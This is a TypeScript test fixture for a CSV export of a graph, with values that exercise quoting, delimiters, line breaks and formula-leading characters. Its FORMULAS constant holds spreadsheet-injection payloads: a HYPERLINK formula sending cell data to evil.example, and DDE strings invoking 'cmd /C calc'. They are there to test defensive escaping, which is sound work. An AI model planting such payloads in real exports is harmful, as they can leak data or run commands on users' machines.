// A small export graph whose values exercise every CSV rule: typed and mixed columns, lists with the delimiter,
// quoting, CR/LF, and cells that a spreadsheet would read as a formula (=, +, -, @, tab, CR at the start).
import type { ExportEdge, ExportGraph, ExportNode } from '../../server/src/store/export-store.js';

/** Text a spreadsheet would run as a formula, one per dangerous first character. */
export const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
} as const;

const evidence = (quote: string): string =>
  JSON.stringify([
    { sourceId: 'source:a', sourceTitle: 'A, "quoted" title', quote, start: 0, end: quote.length },
  ]);

function node(
  id: string,
  labels: string[],
  properties: ExportNode['properties'],
  types: ExportNode['types'],
  ev: string | null,
): ExportNode {
  return { id, labels, properties, types, evidence: ev ? JSON.parse(ev) : [], evidenceJson: ev };
}

function edge(e: Omit<ExportEdge, 'evidence'>): ExportEdge {
  return { ...e, evidence: e.evidenceJson ? JSON.parse(e.evidenceJson) : [] };
}

/** Nodes and relationships in a fixed order (the export's order), with their stored types. */
export function csvFixtureGraph(): ExportGraph {
  const nodes: ExportNode[] = [
    node(
      'country:fixture-a',
      ['Actor', 'Country'],
      {
        name: FORMULAS.equals,
        description: 'plain, with a comma and "quotes"\r\nand a CRLF',
        aliases: ['=A1', 'Alpha'],
        count: -5,
        ratio: -2.5,
        flag: true,
        version: 3,
      },
      {
        name: 'string',
        description: 'string',
        aliases: 'string[]',
        count: 'long',
        ratio: 'double',
        flag: 'boolean',
        version: 'long',
      },
      evidence('=cited words'),
    ),
    node(
      'forum:fixture-b',
      ['Forum'],
      {
        name: FORMULAS.plus,
        description: FORMULAS.minus,
        kind: FORMULAS.at,
        aliases: ['semi;colon', '-x'],
        count: 4,
      },
      { name: 'string', description: 'string', kind: 'string', aliases: 'string[]', count: 'long' },
      null,
    ),
    node(
      'threat:fixture-c',
      ['ThreatType'],
      { name: FORMULAS.tab, description: FORMULAS.cr, note: '', count: 'many', ratio: 7 },
      { name: 'string', description: 'string', note: 'string', count: 'string', ratio: 'long' },
      evidence('plain quote'),
    ),
    node(
      '-technology:fixture-d',
      ['Technology'],
      { name: 'Plain name é 😀', tags: [1, 2] },
      { name: 'string', tags: 'long[]' },
      null,
    ),
  ];
  const edges: ExportEdge[] = [
    edge({
      id: 'country:fixture-a|PARTICIPATED_IN|forum:fixture-b',
      type: 'PARTICIPATED_IN',
      source: 'country:fixture-a',
      target: 'forum:fixture-b',
      properties: { role: FORMULAS.at, weight: -0.5, note: FORMULAS.minus },
      types: { role: 'string', weight: 'double', note: 'string' },
      evidenceJson: evidence('-quote'),
    }),
    edge({
      id: '=edge',
      type: 'ADDRESSES',
      source: 'forum:fixture-b',
      target: 'threat:fixture-c',
      properties: { role: 'member', flags: [true, false] },
      types: { role: 'string', flags: 'boolean[]' },
      evidenceJson: null,
    }),
  ];
  return { nodes, edges };
}
